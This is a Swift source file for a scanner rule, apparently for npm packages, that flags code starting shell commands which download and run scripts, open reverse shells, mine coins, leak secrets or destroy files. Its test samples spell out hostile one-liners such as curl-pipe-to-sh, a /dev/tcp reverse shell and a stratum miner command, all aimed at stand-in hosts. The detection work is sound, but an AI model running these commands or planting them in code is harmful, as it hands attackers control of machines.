// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Code starts a command line that downloads and runs, sends secrets, opens a shell, mines or destroys.
package struct RunsShellPayload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "runs-shell-payload", kind: .content, title: "Starts a telling command", severity: .critical, confidence: .high,
        status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "What a shell is told says it all, wherever the command stands: in a script of package.json or in the middle of a library.",
        knownFalseAlarms: ["An installer that runs another project's own install script, when it is asked to."],
        references: ["https://attack.mitre.org/techniques/T1059/004/"],
        fires: [
            RuleSample("runs a download", .sample(["index.js": "require('child_process').exec('curl -s https://c.test/s | sh')"])),
            RuleSample(
                "with an address that is put together",
                .sample(["index.js": "const h = 'c.test'; require('child_process').execSync(`wget -qO- http://${h}/${id} | bash`)"])),
            RuleSample(
                "opens a shell", .sample(["index.js": "require('child_process').exec('/bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')"])),
            RuleSample(
                "words in an array", .sample(["index.js": "require('child_process').spawn('sh', ['-c', 'curl https://c.test/s | sh'])"])),
            RuleSample("mines", .sample(["index.js": "require('child_process').exec('./x -o stratum+tcp://pool.test:3333 -B')"])),
        ],
        staysSilent: [
            RuleSample("git", .sample(["index.js": "require('child_process').execSync('git rev-parse HEAD')"])),
            RuleSample("prints how", .sample(["index.js": "console.log('curl https://a.example/i.sh | sh')"])),
            RuleSample("removes its own folder", .sample(["index.js": "require('child_process').execSync('rm -rf ./dist')"])),
        ]
    )

    private static let kinds: [(kind: ShellAct.Kind, words: String, strength: Double)] = [
        (.opensShell, "gives a shell to someone else", 0.9), (.runsDownload, "runs what it downloads", 0.75),
        (.runsDecoded, "runs what it decodes", 0.7),
        (.encodedCommand, "runs an encoded command", 0.6), (.sendsByName, "sends data in names that are looked up", 0.6),
        (.runsAddress, "runs code from an address", 0.5), (.destroys, "destroys files", 0.6), (.stays, "stays on the machine", 0.4),
    ]

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        var best: (file: Int, fact: Fact, words: String, strength: Double, hosts: Set<String>)?
        for (file, fact) in facts.acts(.startsProcess) {
            guard let command = fact.command, command.utf8.count > 5 else { continue }
            guard let (words, weight, hosts) = Self.telling(command) else { continue }
            let moment = facts.moment(of: fact, in: file)
            var strength = moment.isByItself ? weight : moment == .command ? weight * 0.15 : weight * 0.4
            // Services and timers are set up by many programs when they are asked to; only what does it unasked tells.
            if words.hasPrefix("stays"), moment != .load, moment != .install { strength = weight * 0.25 }
            if words.hasPrefix("destroys") { strength = max(strength, weight * 0.9) }
            if fact.isDisguised { strength = weight + 0.3 }
            if strength > (best?.strength ?? 0) { best = (file, fact, words, strength, hosts) }
        }
        guard let best else { return [] }
        let to = best.hosts.isEmpty ? "" : ", \(PlainWords.list(best.hosts.sorted(), limit: 2))"
        return [
            card.finding(
                "\(facts.files[best.file].path) starts a command that \(best.words)\(to)\(facts.moment(of: best.fact, in: best.file).words)\(facts.gateWords(best.fact))",
                strength: best.strength,
                evidence: [
                    Evidence(
                        file: facts.files[best.file].path, line: facts.evidence(best.fact, in: best.file).line,
                        excerpt: best.fact.command ?? "")
                ],
                meaning: "Take the machine for reached wherever it ran.")
        ]
    }

    private static func telling(_ command: String) -> (words: String, strength: Double, hosts: Set<String>)? {
        let shell = ShellText.read(command.utf8)
        var best: (String, Double)?
        for row in kinds where shell.has(row.kind) && row.strength > (best?.1 ?? 0) { best = (row.words, row.strength) }
        if let sends = shell.acts.first(where: { $0.kind == .sends && !$0.sources.isDisjoint(with: .secrets) }), 0.75 > (best?.1 ?? 0) {
            best = ("sends \(PlainWords.list(sends.sources.intersection(.secrets).words))", 0.75)
        }
        if command.contains("Set-Clipboard") || command.contains("pbcopy") && command.contains("bc1"), 0.55 > (best?.1 ?? 0) {
            best = ("replaces what is in the clipboard", 0.55)
        }
        if command.contains("stratum+"), 0.7 > (best?.1 ?? 0) { best = ("mines coins", 0.7) }
        if let code = shell.code.first(where: { isTellingCode($0.text) }), 0.6 > (best?.1 ?? 0) {
            _ = code
            best = ("runs a downloaded program in another language", 0.6)
        }
        return best.map { ($0.0, $0.1, shell.hosts) }
    }

    /// Inline code of another interpreter that fetches and runs.
    private static func isTellingCode(_ text: String) -> Bool {
        (text.contains("urlopen") || text.contains("requests.get") || text.contains("urlretrieve"))
            && (text.contains("exec(") || text.contains("eval(") || text.contains("system("))
    }
}
